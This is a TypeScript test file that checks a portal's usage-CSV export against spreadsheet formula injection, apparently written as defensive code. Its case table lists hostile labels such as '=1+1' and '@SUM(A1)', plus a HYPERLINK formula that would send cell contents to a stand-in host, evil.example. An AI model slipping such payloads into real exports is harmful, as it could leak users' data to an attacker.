// The usage CSV's cells (src/portal/views/usage-csv.ts) against CSV injection (OWASP): a key's label, as a hostile
// partner could write it, never gives a cell that a spreadsheet reads as a formula, whether it splits the lines on `,`
// or on `;` (or on tabs). A table of labels and the cell each gives, then every line split as the crudest reader would.
import { describe, expect, it } from "vitest";
import { renderUsageCsv } from "../../src/portal/views/usage-csv.ts";
import type { DetailRow } from "../../src/usage/store.ts";

const rows: DetailRow[] = [
  {
    at: Date.parse("2026-11-22T17:00:00Z"),
    key: "p.a.k",
    route: "sale_list",
    counts: { ok: 2, not_modified: 0, client_error: 1, limited: 2, server_error: 0, bytes: 512 },
  },
];

/** A label and the key cell it gives, as written in the CSV. */
const CASES: [label: string, cell: string][] = [
  ["shop", '"shop"'],
  ["x;=1+1;", `"x;'=1+1;"`],
  ["=1+1", `"'=1+1"`],
  ["+1", `"'+1"`],
  ["-1", `"'-1"`],
  ["@SUM(A1)", `"'@SUM(A1)"`],
  ["\t=1", `"'\t'=1"`],
  ["a\t+1", `"a\t'+1"`],
  ["\r=1", `"'\r'=1"`],
  ["  =1", `"'  =1"`],
  ["a,-1", `"a,'-1"`],
  ['a; "=1"', `"a;' ""=1"""`],
  ['say "hi"', '"say ""hi"""'],
  ["line\n@x", `"line\n'@x"`],
  ["north-east 2", '"north-east 2"'],
  ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`],
];

/** Where a cell a spreadsheet reads as a formula would start, once a line is split on `separator`, quotes ignored. */
const formulaCells = (csv: string, separator: string) =>
  csv
    .split(/\r\n|\n/)
    .flatMap((line) => line.split(separator))
    .filter((cell) => /^[ "]*[=+\-@\t\r]/.test(cell));

describe("the usage CSV against formula injection", () => {
  it.each(CASES)("writes the label %j as the cell %j", (label, cell) => {
    const csv = renderUsageCsv(rows, () => label);
    const lines = csv.split("\r\n");
    expect(lines[0]).toBe(
      '"period_start","key","endpoint","requests","ok","not_modified","client_error","limited","server_error","bytes"',
    );
    expect(csv.endsWith("\r\n")).toBe(true);
    expect(csv).toContain(`"2026-11-22T17:00:00Z",${cell},"sale_list",5,2,0,1,2,0,512\r\n`);
  });

  it.each(CASES)("gives no cell starting a formula for %j, split on `,` or on `;`", (label) => {
    const csv = renderUsageCsv(rows, () => label);
    expect(formulaCells(csv, ",")).toEqual([]);
    expect(formulaCells(csv, ";")).toEqual([]);
    expect(formulaCells(csv, "\t")).toEqual([]);
  });
});
